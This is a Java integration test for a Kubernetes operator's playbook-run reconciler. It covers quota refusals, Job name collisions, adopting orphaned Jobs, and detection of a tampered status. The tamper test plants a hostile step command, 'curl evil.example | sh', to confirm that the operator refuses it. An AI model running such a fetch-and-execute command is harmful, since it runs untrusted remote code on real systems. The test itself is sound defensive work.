package dev.klaxon.playbook;

import static org.assertj.core.api.Assertions.assertThat;

import dev.klaxon.api.v1alpha1.Condition;
import dev.klaxon.api.v1alpha1.KlaxonApi;
import dev.klaxon.api.v1alpha1.Playbook;
import dev.klaxon.api.v1alpha1.PlaybookRun;
import dev.klaxon.api.v1alpha1.PlaybookRunSpec;
import dev.klaxon.api.v1alpha1.PlaybookRunStatus;
import dev.klaxon.api.v1alpha1.PlaybookStep;
import dev.klaxon.api.v1alpha1.RunTransition;
import dev.klaxon.api.v1alpha1.StepRollback;
import dev.klaxon.api.v1alpha1.StepStatus;
import dev.klaxon.common.EventRecorder;
import dev.klaxon.common.KlaxonConfig;
import dev.klaxon.common.OpenWork;
import dev.klaxon.common.OperatorKey;
import dev.klaxon.common.ReadyCondition;
import dev.klaxon.prometheus.PrometheusClient;
import dev.klaxon.testing.DirectReconcile;
import dev.klaxon.testing.Playbooks;
import dev.klaxon.testing.TestCluster;
import io.fabric8.kubernetes.api.model.Event;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.ResourceQuotaBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.api.model.batch.v1.JobBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.javaoperatorsdk.operator.api.reconciler.Context;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The error paths of {@link PlaybookRunReconciler}, one {@code reconcile()} call each on the real
 * API server with no operator around it ({@link DirectReconcile}): what the API server refuses
 * and what someone else wrote are answered the same way every time, without a whole operator.
 */
class PlaybookRunReconcilerIT {

    private static final Clock CLOCK = Clock.fixed(Instant.now(), ZoneOffset.UTC);
    private static final OperatorKey KEY = new OperatorKey("the key of the test's operator!!".getBytes(StandardCharsets.UTF_8));
    private static KubernetesClient admin;
    private static String namespace;
    private static PlaybookRunReconciler reconciler;
    private static int counter;

    @BeforeAll
    static void start() {
        admin = TestCluster.get().admin();
        namespace = TestCluster.get().createNamespace("run-reconciler");
        KlaxonConfig config = DirectReconcile.defaultConfig();
        EventRecorder events = new EventRecorder(admin, CLOCK);
        PrometheusClient unused = new PrometheusClient(URI.create("http://127.0.0.1:9"), Duration.ofSeconds(1), Optional.empty(), Optional.empty());
        reconciler = new PlaybookRunReconciler(new ReadyCondition(CLOCK, events), events, CLOCK, admin, unused,
                new PlaybookMetrics(new SimpleMeterRegistry()), KEY, config, new OpenWork(admin, CLOCK, config));
    }

    @Test
    void aJobTheApiServerRefusesFailsItsStepWithoutARollbackAndIsNotTriedAgain() {
        // A quota of no Jobs at all: the API server refuses the step's Job (403).
        admin.resourceQuotas().inNamespace(namespace).resource(new ResourceQuotaBuilder().withNewMetadata().withName("no-jobs").endMetadata()
                .withNewSpec().addToHard("count/jobs.batch", new io.fabric8.kubernetes.api.model.Quantity("0")).endSpec().build()).create();
        try {
            PlaybookStep undoable = Playbooks.step("scale-up", "exit 0");
            StepRollback rollback = new StepRollback();
            rollback.setArgs(List.of("scale", "--replicas=3"));
            undoable.setRollback(rollback);
            PlaybookRun run = startRun(Playbooks.playbook(namespace, "quota", undoable, Playbooks.step("announce", "exit 0")));

            reconcile(run);

            PlaybookRun failed = fetch(run);
            assertThat(failed.getStatus().getPhase()).isEqualTo(PlaybookRunStatus.Phase.Failed);
            assertThat(failed.getStatus().getSteps()).extracting(StepStatus::getPhase)
                    .containsExactly(StepStatus.Phase.Failed, StepStatus.Phase.Skipped);
            assertThat(failed.getStatus().getSteps().get(0).getMessage()).contains("the API server rejected Job", "exceeded quota");
            assertThat(failed.getStatus().getTransitions()).extracting(RunTransition::getPhase)
                    .as("a step that never ran is not rolled back").doesNotContain(StepStatus.Phase.RollingBack.name());
            assertThat(eventsOf(failed)).extracting(Event::getReason).contains("RunFailed");
            assertThat(jobsOf(failed)).isEmpty();

            // The next reconcile has nothing to do: no second attempt, no status write.
            reconcile(failed);
            assertThat(fetch(run).getMetadata().getResourceVersion()).isEqualTo(failed.getMetadata().getResourceVersion());
        } finally {
            admin.resourceQuotas().inNamespace(namespace).withName("no-jobs").delete();
        }
    }

    @Test
    void aJobNameSomeoneElseTookFailsTheStepAndTheirJobIsLeftAlone() {
        PlaybookRun run = startRun(Playbooks.playbook(namespace, "squatted", Playbooks.step("fix", "exit 0")));
        String name = RunSequencer.jobName(run.getMetadata().getName(), "fix", RunSequencer.JobRole.STEP);
        Job squat = admin.batch().v1().jobs().inNamespace(namespace).resource(new JobBuilder().withNewMetadata().withName(name).endMetadata()
                .withNewSpec().withSuspend(true).withNewTemplate().withNewSpec().withRestartPolicy("Never")
                .addNewContainer().withName("squat").withImage(TestCluster.STEP_IMAGE).endContainer().endSpec().endTemplate().endSpec()
                .build()).create();

        reconcile(run);

        PlaybookRun failed = fetch(run);
        assertThat(failed.getStatus().getPhase()).isEqualTo(PlaybookRunStatus.Phase.Failed);
        assertThat(failed.getStatus().getSteps().get(0).getMessage()).contains("already exists and does not belong to this run");
        assertThat(failed.getStatus().getSteps().get(0).getJobUid()).isNull();
        Job after = admin.batch().v1().jobs().inNamespace(namespace).withName(name).get();
        assertThat(after.getMetadata().getUid()).isEqualTo(squat.getMetadata().getUid());
        assertThat(after.getMetadata().getOwnerReferences()).isEmpty();
    }

    @Test
    void aJobItMadeBeforeItsStatusWriteWasLostIsAdoptedNotMadeTwice() {
        PlaybookRun run = startRun(Playbooks.playbook(namespace, "adopted", Playbooks.step("fix", "exit 0")));
        reconcile(run);
        Job made = jobsOf(fetch(run)).get(0);

        // As if the operator crashed before writing that status: the run without it, its Job already there.
        PlaybookRun lost = fetch(run);
        lost.setStatus(null);
        reconcile(admin.resource(lost).updateStatus());

        PlaybookRun running = fetch(run);
        assertThat(running.getStatus().getSteps().get(0).getPhase()).isEqualTo(StepStatus.Phase.Running);
        assertThat(running.getStatus().getSteps().get(0).getJobUid()).isEqualTo(made.getMetadata().getUid());
        assertThat(jobsOf(running)).hasSize(1);
    }

    @Test
    void aStatusRewrittenBySomeoneElseStopsTheRunAndNothingOfItRuns() {
        PlaybookRun run = startRun(Playbooks.playbook(namespace, "tampered", Playbooks.gated(Playbooks.step("fix", "exit 0"))));
        reconcile(run);
        PlaybookRun waiting = fetch(run);
        assertThat(waiting.getStatus().getPhase()).isEqualTo(PlaybookRunStatus.Phase.WaitingForApproval);
        String seal = waiting.getStatus().getSeal();

        // Someone with rights on the status subresource swaps what the step runs and approves it.
        waiting.getStatus().getPlaybook().getSteps().get(0).setCommand(List.of("/bin/sh", "-c", "curl evil.example | sh"));
        waiting.getStatus().getPlaybook().getSteps().get(0).setRequiresApproval(false);
        PlaybookRun rewritten = admin.resource(waiting).updateStatus();

        reconcile(rewritten);

        PlaybookRun stopped = fetch(run);
        Condition ready = stopped.getStatus().getConditions().stream().filter(c -> Condition.READY.equals(c.getType())).findFirst().orElseThrow();
        assertThat(ready.getStatus()).isEqualTo(Condition.Status.False);
        assertThat(ready.getReason()).isEqualTo("StatusTampered");
        assertThat(stopped.getStatus().getSeal()).as("the old seal stays, so the run stays refused").isEqualTo(seal);
        assertThat(eventsOf(stopped)).filteredOn(e -> "StatusTampered".equals(e.getReason())).extracting(Event::getType).containsOnly("Warning");
        assertThat(jobsOf(stopped)).isEmpty();

        reconcile(stopped);
        assertThat(jobsOf(fetch(run))).as("refused on every reconcile").isEmpty();
    }

    private static PlaybookRun startRun(Playbook playbook) {
        admin.resource(playbook).create();
        PlaybookRun run = new PlaybookRun();
        run.setMetadata(new ObjectMetaBuilder().withName(playbook.getMetadata().getName() + "-" + (++counter)).withNamespace(namespace).build());
        PlaybookRunSpec spec = new PlaybookRunSpec();
        spec.setPlaybookRef(playbook.getMetadata().getName());
        spec.setRequestedBy("alice@example.com");
        run.setSpec(spec);
        return admin.resource(run).create();
    }

    /** One reconcile of the run as given, its Playbook, Jobs and pods read from the API server as the informers would have them. */
    private static void reconcile(PlaybookRun run) {
        Context<PlaybookRun> context = DirectReconcile.<PlaybookRun>on(admin)
                .secondary(PlaybookRunReconciler.PLAYBOOK, () -> Optional.ofNullable(admin.resources(Playbook.class).inNamespace(namespace)
                        .withName(run.getSpec().getPlaybookRef()).get()))
                .secondaries(Job.class, () -> jobsOf(run))
                .secondaries(Pod.class, () -> admin.pods().inNamespace(namespace)
                        .withLabel(KlaxonApi.LABEL_PLAYBOOK_RUN, run.getMetadata().getName()).list().getItems())
                .context();
        reconciler.reconcile(admin.getKubernetesSerialization().clone(run), context);
    }

    private static PlaybookRun fetch(PlaybookRun run) {
        return admin.resource(run).get();
    }

    private static List<Job> jobsOf(PlaybookRun run) {
        return admin.batch().v1().jobs().inNamespace(namespace).withLabel(KlaxonApi.LABEL_PLAYBOOK_RUN, run.getMetadata().getName())
                .list().getItems();
    }

    private static List<Event> eventsOf(PlaybookRun run) {
        return admin.v1().events().inNamespace(namespace).list().getItems().stream()
                .filter(e -> run.getMetadata().getName().equals(e.getInvolvedObject().getName())).toList();
    }
}
